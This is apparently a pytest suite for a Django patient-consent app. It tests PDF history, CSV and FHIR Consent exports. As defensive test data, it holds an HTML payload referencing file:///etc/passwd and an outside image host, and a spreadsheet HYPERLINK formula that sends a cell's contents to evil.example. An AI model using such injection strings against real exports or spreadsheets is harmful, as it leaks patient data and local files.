import base64
import csv
import datetime
import hashlib
import io
import socket
import urllib.request
from types import SimpleNamespace

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.db.models import Value
from django.utils import timezone
from fhir.resources.consent import Consent
from pydantic import ValidationError
from pypdf import PdfReader

from consent import pdf, services
from consent.models import ConsentInvitation, EventKind
from consent.presentation.record import format_moment
from practice import exports
from tests.consent.conftest import PATIENT_NAME, REQUEST_META, complete_draft

pytestmark = pytest.mark.django_db

BASE_URL = "https://consent.example.org"


@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to resolve a name or open a connection fails the test, and is recorded."""
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    return attempts


@pytest.fixture
def sign(invite, django_capture_on_commit_callbacks):
    """A function signing a fresh invitation; returns the record."""

    def make(**invitation_overrides):
        invitation, _token = invite(**invitation_overrides)
        complete_draft(invitation)
        with django_capture_on_commit_callbacks(execute=True):
            record, _record_token = services.record_sign(
                invitation=invitation,
                typed_name=invitation.patient_name,
                drawn_signature="",
                request_meta=REQUEST_META,
            )
        return record

    return make


def append(record, kind, data=None, actor_label="patient"):
    return services.event_append(
        record=record,
        kind=kind,
        actor=None,
        actor_label=actor_label,
        request_meta=REQUEST_META,
        data=data or {},
    )


def stored_bytes(record) -> bytes:
    with default_storage.open(record.stored_pdf.file.name, "rb") as handle:
        return handle.read()


def text_of(data: bytes, pages=None) -> str:
    reader = PdfReader(io.BytesIO(data))
    chosen = reader.pages if pages is None else [reader.pages[i] for i in pages]
    return " ".join(" ".join((page.extract_text() or "").split()) for page in chosen)


def overwrite_stored_pdf(record, data: bytes) -> None:
    default_storage.delete(record.stored_pdf.file.name)
    saved = default_storage.save(record.stored_pdf.file.name, ContentFile(data))
    assert saved == record.stored_pdf.file.name


# The PDF with its history -------------------------------------------------------------------


def test_history_pdf_starts_with_the_stored_pages_unchanged(signed_record):
    record, _token = signed_record
    append(record, EventKind.WITHDRAWN, {"reason": "Changed my mind"})
    events = list(record.events.order_by("id"))
    stored = PdfReader(io.BytesIO(stored_bytes(record)))
    history = PdfReader(io.BytesIO(exports.render_history_pdf(record, events)))

    merged = PdfReader(io.BytesIO(exports.record_pdf_with_history(record, events)))

    assert len(merged.pages) == len(stored.pages) + len(history.pages)
    for index, page in enumerate(stored.pages):
        assert merged.pages[index].extract_text() == page.extract_text()
    assert merged.pages[len(stored.pages)].extract_text() == history.pages[0].extract_text()


def test_history_pages_list_every_event_with_its_label_and_the_record_code(signed_record):
    record, _token = signed_record
    append(record, EventKind.VIEWED, actor_label="Dr. Maya Chen, MD")
    append(record, EventKind.QUESTION_ANSWERED, {"answer": "Only a little, like a pinch."})
    append(record, EventKind.WITHDRAWN, {"reason": "Changed my mind"})
    events = list(record.events.all())
    stored_pages = len(PdfReader(io.BytesIO(stored_bytes(record))).pages)

    data = exports.record_pdf_with_history(record, events)

    pages = range(stored_pages, len(PdfReader(io.BytesIO(data)).pages))
    history = text_of(data, pages)
    assert record.code in history
    for kind in (
        EventKind.SIGNED,
        EventKind.VIEWED,
        EventKind.QUESTION_ANSWERED,
        EventKind.WITHDRAWN,
    ):
        assert str(kind.label) in history
    assert "Only a little, like a pinch." in history
    assert "Changed my mind" in history
    assert "Dr. Maya Chen, MD" in history
    assert REQUEST_META.ip_address in history


def test_history_is_in_event_id_order_whatever_order_it_is_given(signed_record):
    record, _token = signed_record
    append(record, EventKind.VIEWED)
    append(record, EventKind.WITHDRAWN, {"reason": "Changed my mind"})
    events = list(record.events.order_by("-id"))

    text = text_of(exports.render_history_pdf(record, events))

    positions = [
        text.index(str(label)) for label in ("Signed", "Viewed", EventKind.WITHDRAWN.label)
    ]
    assert positions == sorted(positions)


def test_history_times_carry_the_clinic_time_zone(signed_record):
    record, _token = signed_record

    text = text_of(exports.render_history_pdf(record, list(record.events.all())))

    assert format_moment(record.signed_at) in text
    assert "UTC-0" in text


def test_tampered_stored_pdf_is_refused(signed_record):
    record, _token = signed_record
    overwrite_stored_pdf(record, stored_bytes(record) + b"\n% appended later\n")

    with pytest.raises(exports.StoredPdfInvalid, match=record.code):
        exports.record_pdf_with_history(record, list(record.events.all()))


def test_missing_stored_pdf_is_refused(signed_record):
    record, _token = signed_record
    default_storage.delete(record.stored_pdf.file.name)

    with pytest.raises(exports.StoredPdfInvalid, match="missing"):
        exports.record_pdf_with_history(record, list(record.events.all()))


def test_history_pdf_fetches_nothing_but_our_stylesheet(signed_record, no_network, monkeypatch):
    record, _token = signed_record
    append(
        record,
        EventKind.WITHDRAWN,
        {"reason": '<img src="http://198.51.100.9/x.png"><link href="file:///etc/passwd">'},
        actor_label='<img src="https://example.com/tracker.png">',
    )
    fetched = []
    original = pdf.RecordURLFetcher.fetch

    def spy(self, url, headers=None):
        fetched.append(url)
        return original(self, url, headers)

    monkeypatch.setattr(pdf.RecordURLFetcher, "fetch", spy)

    data = exports.record_pdf_with_history(record, list(record.events.all()))

    assert fetched == [pdf.STATIC_SCHEME + pdf.STYLESHEET]
    assert no_network == []
    assert "file:///etc/passwd" in text_of(data).replace(" ", "")


def test_events_of_another_record_are_refused(signed_record, sign):
    record, _token = signed_record
    other = sign(patient_name="Sam Rivera")

    with pytest.raises(ValueError, match=record.code):
        exports.render_history_pdf(record, list(other.events.all()))


# CSV ---------------------------------------------------------------------------------------


def fake_row(number: int, **overrides):
    moment = datetime.datetime(2026, 4, 12, 18, 3, 22, tzinfo=datetime.UTC)
    fields = {
        "record": SimpleNamespace(
            code=f"CR-TEST-{number:04d}", version=SimpleNamespace(number=2), signed_at=moment
        ),
        "patient_name": f"Patient {number}",
        "procedure": SimpleNamespace(name="Mesotherapy"),
        "practitioner": SimpleNamespace(display_name="Dr. Maya Chen, MD"),
        "location": SimpleNamespace(name="Riverside"),
        "status": "ready",
        "created_at": moment - datetime.timedelta(days=1),
        "withdrawn_at": None,
        **overrides,
    }
    return SimpleNamespace(**fields)


def parse(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


def test_csv_has_the_header_then_one_row_per_input_in_order():
    rows = [fake_row(1), fake_row(2, record=None, status="invited"), fake_row(3)]

    table = parse(exports.records_csv(rows))

    assert table[0] == list(exports.CSV_HEADER)
    assert [line[0] for line in table[1:]] == ["CR-TEST-0001", "", "CR-TEST-0003"]
    assert table[1] == [
        "CR-TEST-0001",
        "Patient 1",
        "Mesotherapy",
        "2",
        "Dr. Maya Chen, MD",
        "Riverside",
        "ready",
        "2026-04-12T18:03:22Z",
        "2026-04-11T18:03:22Z",
        "",
    ]
    assert table[2][3] == "" and table[2][6] == "invited" and table[2][7] == ""


def test_csv_times_are_utc_whatever_zone_they_come_in():
    eastern = datetime.timezone(datetime.timedelta(hours=-4))
    row = fake_row(1, withdrawn_at=datetime.datetime(2026, 5, 1, 9, 0, tzinfo=eastern))

    table = parse(exports.records_csv([row]))

    assert table[1][9] == "2026-05-01T13:00:00Z"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_that_a_spreadsheet_would_run_is_neutralised(start):
    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    table = parse(exports.records_csv([fake_row(1, patient_name=name)]))

    assert table[1][1] == "'" + name


def test_csv_with_a_comma_quote_and_line_break_stays_one_cell():
    name = 'Morgan, Alex "Lex"\nJr.'

    table = parse(exports.records_csv([fake_row(1, patient_name=name)]))

    assert len(table) == 2
    assert table[1][1] == name


def test_csv_generator_reads_its_input_only_as_far_as_it_is_consumed():
    pulled = 0

    def rows():
        nonlocal pulled
        for number in range(10_000):
            pulled += 1
            yield fake_row(number)

    lines = exports.records_csv(rows())
    first_two = [next(lines), next(lines)]

    assert pulled == 1
    assert first_two[1].startswith('"CR-TEST-0000"')


def test_csv_of_real_invitations_takes_one_query_for_any_number_of_rows(
    sign, invite, django_assert_num_queries
):
    signed = sign()
    services.record_withdraw(record=signed, reason="No", request_meta=REQUEST_META)
    sign(patient_name="=Sam Rivera")
    invite(patient_name="Jo Unsigned")
    rows = (
        ConsentInvitation.objects.annotate(status=Value("any"))
        .select_related("record__version", "practitioner", "procedure", "location")
        .order_by("id")
    )

    with django_assert_num_queries(1):
        table = parse(exports.records_csv(rows.iterator(chunk_size=2)))

    assert [line[1] for line in table[1:]] == [PATIENT_NAME, "'=Sam Rivera", "Jo Unsigned"]
    assert table[1][0] == signed.code
    assert table[1][3] == str(signed.version.number)
    assert table[3][0] == ""


def test_csv_reads_the_selectors_state_when_there_is_no_status():
    row = fake_row(1)
    del row.status
    row.state = "withdrawn"

    assert parse(exports.records_csv([row]))[1][6] == "withdrawn"


def test_csv_prefers_the_consents_own_withdrawal_time():
    moment = datetime.datetime(2026, 6, 1, 12, 0, tzinfo=datetime.UTC)
    row = fake_row(1, consent_withdrawn_at=moment)

    assert parse(exports.records_csv([row]))[1][9] == "2026-06-01T12:00:00Z"


def test_streamed_csv_is_an_attachment_in_utf8():
    response = exports.stream_records_csv([fake_row(1, patient_name="Zoë Ångström")], "c.csv")

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="c.csv"'
    body = b"".join(response.streaming_content).decode("utf-8")
    assert parse([body])[1][1] == "Zoë Ångström"


# FHIR --------------------------------------------------------------------------------------


def utc_text(moment) -> str:
    return moment.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def fhir_of(record) -> dict:
    return exports.record_fhir_consent(
        record, pdf_bytes=stored_bytes(record), base_url=BASE_URL + "/"
    )


def test_fhir_consent_is_a_valid_r5_consent(signed_record):
    record, _token = signed_record

    resource = Consent.model_validate(fhir_of(record))

    assert resource.get_resource_type() == "Consent"
    assert resource.id == record.code


def test_fhir_validation_would_catch_an_r4_only_field(signed_record):
    record, _token = signed_record
    data = {**fhir_of(record), "performer": [{"display": PATIENT_NAME}]}

    with pytest.raises(ValidationError):
        Consent.model_validate(data)


def test_fhir_consent_names_status_patient_performer_date_and_source(signed_record):
    record, _token = signed_record
    version = record.version

    data = fhir_of(record)

    assert data["status"] == "active"
    assert data["identifier"] == [
        {"use": "official", "system": f"{BASE_URL}/consent/records", "value": record.code}
    ]
    assert data["subject"] == {"type": "Patient", "display": PATIENT_NAME}
    assert data["grantor"] == [{"type": "Patient", "display": PATIENT_NAME}]
    assert data["grantee"] == [{"type": "Practitioner", "display": "Dr. Maya Chen, MD"}]
    actor = data["provision"][0]["actor"][0]
    assert actor["role"]["coding"][0]["code"] == "PRF"
    assert actor["reference"]["display"] == "Dr. Maya Chen, MD"
    assert data["provision"][0]["code"] == [{"text": version.procedure.name}]
    assert data["category"][0]["coding"][0] == {
        "system": "http://loinc.org",
        "code": "59284-0",
        "display": "Patient Consent",
    }
    assert data["date"] == timezone.localtime(record.signed_at).date().isoformat()
    assert data["period"] == {"start": utc_text(record.signed_at)}
    assert data["policyBasis"]["url"] == (
        f"{BASE_URL}/procedures/{version.procedure.slug}/versions/{version.number}/"
    )
    assert data["policyBasis"]["reference"]["identifier"]["value"] == version.content_hash


def test_fhir_attachment_is_the_signed_pdf(signed_record):
    record, _token = signed_record
    stored = stored_bytes(record)

    attachment = fhir_of(record)["sourceAttachment"][0]

    assert attachment["contentType"] == "application/pdf"
    assert base64.b64decode(attachment["data"]) == stored
    assert attachment["hash"] == base64.b64encode(hashlib.sha1(stored).digest()).decode()  # noqa: S324
    assert attachment["size"] == str(len(stored))
    assert record.code in attachment["title"]


def test_fhir_refuses_a_pdf_that_is_not_the_stored_one(signed_record):
    record, _token = signed_record

    with pytest.raises(exports.StoredPdfInvalid):
        exports.record_fhir_consent(record, pdf_bytes=b"%PDF-1.7 forged", base_url=BASE_URL)


def test_withdrawn_record_exports_as_inactive_ending_at_the_withdrawal(signed_record):
    record, _token = signed_record
    withdrawal = services.record_withdraw(
        record=record, reason="Changed my mind", request_meta=REQUEST_META
    )

    data = fhir_of(record)

    Consent.model_validate(data)
    assert data["status"] == "inactive"
    assert data["period"]["end"] == utc_text(withdrawal.occurred_at)


def test_other_events_leave_the_consent_active(signed_record):
    record, _token = signed_record
    append(record, EventKind.VIEWED)
    append(record, EventKind.COUNTERSIGNED, {"typed_name": "Maya Chen"})

    assert fhir_of(record)["status"] == "active"
